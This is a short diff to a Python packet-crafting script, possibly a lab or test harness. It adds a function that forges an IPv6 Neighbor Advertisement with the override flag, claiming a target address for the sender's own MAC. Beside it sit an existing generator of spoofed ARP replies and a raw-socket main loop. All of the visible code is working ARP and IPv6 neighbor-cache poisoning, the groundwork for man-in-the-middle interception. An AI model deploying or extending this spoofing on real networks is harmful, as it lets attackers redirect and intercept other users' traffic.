@@ -399,6 +399,12 @@ def lies():
         yield ether(ARP(op=2, psrc=KERNEL4, pdst=INLET4, hwdst=MAC))
 
 
+def lie_about_kernel():
+    """One for atk6-parasite6 to confirm. Its own tools would ask it where to send this."""
+    yield ether(IPv6(src=KERNEL6, dst=INLET6, hlim=255) / ICMPv6ND_NA(tgt=KERNEL6, R=0, S=0, O=1) /
+                ICMPv6NDOptDstLLAddr(lladdr=OWN_MAC))
+
+
 def main():
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     s.bind((DEVICE, 0))
